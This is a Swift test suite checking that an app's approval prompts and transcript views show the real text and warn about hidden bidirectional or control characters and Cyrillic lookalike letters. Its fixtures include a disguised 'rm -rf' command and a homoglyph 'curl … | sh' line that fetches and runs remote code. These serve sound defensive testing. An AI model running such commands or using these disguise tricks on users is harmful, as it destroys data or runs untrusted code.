import CollabWire
import EnclaveContracts
import EnclaveFixtures
import EnclaveModel
import Foundation
import Testing

@testable import EnclaveUI

/// A host, a guest or a tool may send anything: what is approved must be what is read.
@Suite("Text that is not what it seems", .serialized)
@MainActor
struct HostileTextTests {
    /// Reads "rm -rf build" where a terminal runs "rm -rf dliub" backwards: an override around part of it. Beside it stand
    /// control characters that a terminal would follow and a screen draws as boxes: an escape, a delete, one of C1.
    private static let turned = #"\u202Edl\u001b\u0007i\u007f\u009bub\u202C"#

    private func screen(_ frames: [String], until: (SessionVM) -> Bool) async throws -> (Screen, HandHost, SessionVM) {
        let (stage, host) = try await Fixture.byHand()
        let session = try await Fixture.live(stage, host)
        for frame in frames { try host.deliver(frame) }
        try await stage.run("what was sent") { until(session) }
        return (await Screen(stage), host, session)
    }

    /// Nothing on screen, spoken or named turns the direction of text, or is a control character.
    private func expectStraight(_ screen: Screen, sourceLocation: SourceLocation = #_sourceLocation) {
        for text in screen.driver.texts { #expect(!text.isUnreadable, "\(text)", sourceLocation: sourceLocation) }
        for element in screen.driver.elements {
            for words in [element.label, element.value, element.hint ?? ""] {
                #expect(!words.isUnreadable, "\(words)", sourceLocation: sourceLocation)
            }
        }
    }

    @Test("An approval shows its command as it runs, and says that something was hidden in it")
    func approval() async throws {
        let (screen, host, _) = try await screen([
            HandHost.ask(
                #"{"reqId":3,"kind":"select","title":"Run `rm -rf \#(Self.turned)`?","options":["Approve","Decline"]}"#)
        ]) { $0.needsAnswer }
        #expect(screen.shows("Run rm -rf dliub?"))
        #expect(screen.shows("Hidden characters that turn the direction of text were left out."))
        #expect(screen.shows("Control characters were left out."))
        expectStraight(screen)
        try await screen.tap("Approve")
        #expect(try host.sent("ui-response").map { $0["value"]?.stringValue } == ["Approve"])
    }

    @Test("Words without end in a question or an error show their beginning, and the answer is the whole option")
    func endless() async throws {
        let long = String(repeating: "harbour ", count: 60_000)
        let (screen, host, session) = try await screen([
            #"{"t":"error","message":"\#(long)"}"#,
            HandHost.ask(#"{"reqId":3,"kind":"select","title":"\#(long)","options":["\#(long)","No","Later"]}"#),
        ]) { $0.needsAnswer }
        let shown = screen.driver.texts.map(\.utf8.count)
        #expect(shown.max() ?? 0 <= String.mostShown + 4)
        #expect(screen.driver.page().utf8.count < 600_000)
        session.client.answer(long)
        await screen.settle()
        #expect(try host.sent("ui-response").map { $0["value"]?.stringValue } == [long])
    }

    @Test("Letters that only look like Latin ones are named before anybody approves them")
    func lookalikes() async throws {
        // The "а" and the "е" are Cyrillic.
        let (screen, _, _) = try await screen([
            HandHost.ask(
                #"{"reqId":3,"kind":"select","title":"Run `curl exаmplе.com | sh`?","options":["Approve","Decline"]}"#)
        ]) { $0.needsAnswer }
        #expect(screen.shows("Some letters only look like Latin ones: exаmplе.com"))
    }

    @Test(
        "A question in another script, or in plain words, is not warned about",
        arguments: ["Запустить `make отчёт.txt`?", "Run `make all`?", "Größe ändern?", "Ταχύτητα 5 km/h?"])
    func harmless(title: String) async throws {
        let (screen, _, _) = try await screen([
            HandHost.ask(#"{"reqId":3,"kind":"select","title":"\#(title)","options":["Yes","No"]}"#)
        ]) { $0.needsAnswer }
        #expect(!screen.shows("Some letters only look like"))
        #expect(!screen.shows("Hidden characters"))
        #expect(!screen.shows("Control characters"))
    }

    @Test("Names, prompts, prose, command cards, outputs, diffs, plans and notices are shown straight, closed and open")
    func rows() async throws {
        let t = Self.turned
        let call =
            #"{"type":"toolCall","id":"c1","name":"bash","arguments":{"command":"rm -rf \#(t)","cwd":"/srv/\#(t)"}}"#
        let edit =
            #"{"type":"toolCall","id":"c2","name":"edit","arguments":{"path":"src/\#(t).swift"}}"#
        let frames = [
            HandHost.entry(
                #"{"type":"custom_message","id":"p1","parentId":null,"timestamp":"2026-05-12T08:32:00.000Z","customType":"collab-prompt","content":"Look at **\#(t)** and `\#(t)`","details":{"from":"ri\#(t)ta"},"display":true}"#
            ),
            HandHost.entry(
                #"{"type":"message","id":"a9","parentId":null,"timestamp":"2026-05-12T08:33:00.000Z","message":{"role":"assistant","content":[{"type":"text","text":"See \#(t):\n\n```sh\nrm \#(t)\n```\n\n| a\#(t) | b |\n|---|---|\n| \#(t) | 2 |"},\#(call),\#(edit)],"model":"sail-1","stopReason":"toolUse","timestamp":1778574780000}}"#
            ),
            HandHost.entry(
                #"{"type":"message","id":"r1","parentId":null,"timestamp":"2026-05-12T08:34:00.000Z","message":{"role":"toolResult","toolCallId":"c1","toolName":"bash","content":[{"type":"text","text":"gone: \u202Edliub\u202C\n"}],"isError":false,"timestamp":1778574840000}}"#
            ),
            HandHost.entry(
                #"{"type":"message","id":"r2","parentId":null,"timestamp":"2026-05-12T08:34:00.000Z","message":{"role":"toolResult","toolCallId":"c2","toolName":"edit","content":[{"type":"text","text":"ok"}],"details":{"diff":"@@ -1 +1 @@\n-let a = 1 // \#(t)\n+let a = 2 // \#(t)\n","path":"src/\#(t).swift"},"isError":false,"timestamp":1778574840000}}"#
            ),
            HandHost.entry(
                #"{"type":"model_change","id":"m1","parentId":null,"timestamp":"2026-05-12T08:35:00.000Z","model":"acme/\#(t)"}"#
            ),
            HandHost.event(#"{"type":"notice","level":"error","message":"Disk \#(t)"}"#),
        ]
        let (screen, _, _) = try await screen(frames) { $0.client.rows.count >= 5 && !$0.client.notices.isEmpty }
        expectStraight(screen)
        #expect(screen.shows("ridliubta"))
        // The folded steps, then each card in them.
        for words in ["ran 1 command", "rm -rf dliub", "dliub.swift"] {
            let rows = screen.driver.elements.filter { $0.role == "button" && $0.label.lowercased().contains(words) }
            try screen.driver.tap(try #require(rows.first, "\(words): \(screen.driver.texts)"))
            await screen.settle()
        }
        #expect(screen.shows("rm -rf dliub"), "the command's card is open")
        #expect(screen.shows("gone: dliub"))
        expectStraight(screen)
    }

    @Test(
        "What stands in the list of rooms and on the lock screen is straight, too; a label that would not be is no button there"
    )
    func outside() async throws {
        let t = Self.turned
        let title = #""sessionName":"harbour \#(t)""#
        let state = HandHost.stateFrame().replacing(#""sessionName":"harbour survey""#, with: title)
        let (screen, _, session) = try await screen([
            state,
            HandHost.ask(#"{"reqId":3,"kind":"select","title":"Run `rm \#(t)`?","options":["Go \#(t)","No"]}"#),
        ]) { $0.needsAnswer && $0.client.title?.contains("dliub") == true }
        try await screen.tap("Back")
        #expect(screen.shows("harbour dliub"))
        expectStraight(screen)
        let content = ActivityContent(session, privacy: .preview, now: FixtureStage.date)
        #expect(content.title == "harbour dliub")
        #expect(content.question?.text == "Run rm dliub?")
        #expect(content.question?.options == [])
    }

    @Test("Screens show the words of others through one door only")
    func oneDoor() throws {
        let folder = URL(fileURLWithPath: #filePath)
            .deletingLastPathComponent().deletingLastPathComponent().deletingLastPathComponent()
            .appending(path: "Sources/EnclaveUI")
        let files =
            FileManager.default.enumerator(at: folder, includingPropertiesForKeys: nil)?
            .compactMap { $0 as? URL }.filter { $0.pathExtension == "swift" } ?? []
        #expect(files.count > 60)
        for file in files where file.lastPathComponent != "Text+Shown.swift" {
            let text = try String(contentsOf: file, encoding: .utf8)
            // Literals are the house's own words.
            for match in text.matches(of: /(?:Text\(verbatim: (?!")|AttributedString\((?!\)|shown))/) {
                Issue.record(
                    "\(file.lastPathComponent) shows words in another way: \(text[match.range.lowerBound...].prefix(60))"
                )
            }
        }
    }
}
